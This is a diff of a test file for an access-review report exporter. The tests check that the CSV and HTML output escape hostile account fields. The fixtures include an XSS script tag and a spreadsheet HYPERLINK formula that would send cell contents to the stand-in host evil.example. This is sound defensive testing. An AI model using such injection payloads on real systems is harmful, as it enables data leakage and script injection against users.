@@ -10,7 +10,13 @@ import { campaignHeader, reviewEntry } from '../support/review-entries.ts';
 const hostile = '<script>alert(1)</script>';
 
 const entries = [
-  reviewEntry(1, { username: 'root-admin@example.com', privileged: true, mfa: false, displayName: hostile, flags: { owner: { employeeId: 'E-1', email: 'ada@example.com', displayName: 'Ada', status: 'active' } } }),
+  reviewEntry(1, {
+    username: 'root-admin@example.com',
+    privileged: true,
+    mfa: false,
+    displayName: hostile,
+    flags: { owner: { employeeId: 'E-1', email: 'ada@example.com', displayName: 'Ada', status: 'active', joinedBy: 'template {username}@<b>example.com' } },
+  }),
   reviewEntry(2, {
     username: '=HYPERLINK("http://evil.example/?"&A1,"click")',
     displayName: 'Smith, "Bobby"\nJr.',
@@ -32,10 +38,11 @@ describe('access review CSV', () => {
     expect(csv.endsWith('\r\n')).toBe(true);
     const rows = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[];
     expect(rows).toHaveLength(3);
-    expect(rows[0]).toMatchObject({ entry: '1', account: 'root-admin@example.com', 'display name': hostile, privileged: 'yes', mfa: 'no', 'owner (HR)': 'E-1 ada@example.com', orphan: 'unknown (no HR source)', decision: '' });
+    expect(rows[0]).toMatchObject({ entry: '1', account: 'root-admin@example.com', 'display name': hostile, privileged: 'yes', mfa: 'no', 'owner (HR)': 'E-1 ada@example.com', 'joined by': 'template {username}@<b>example.com', orphan: 'unknown (no HR source)', decision: '' });
     expect(rows[1]).toMatchObject({
       'display name': 'Smith, "Bobby"\nJr.',
       'last login': 'never',
+      'joined by': '',
       inactive: 'yes',
       leaver: 'E-9 terminated 2026-09-30T00:00:00.000Z',
       orphan: 'no',
@@ -86,6 +93,10 @@ describe('access review HTML', () => {
     // A service account alone is information, not a warning.
     expect(html).toMatch(/<tr data-entry="3">/);
     expect(html).toContain('<p>2 accounts, 1 privileged, 1 decided.</p>');
+  });
+
+  it("shows how the owner was found, escaped, under the owner's name", () => {
+    expect(html).toMatch(/<td>E-1<br><span class="muted">ada@example\.com<\/span><br><span class="muted">by template \{username\}@&lt;b&gt;example\.com<\/span><\/td>/);
   });
 
   it('says so when there is nothing to review', () => {
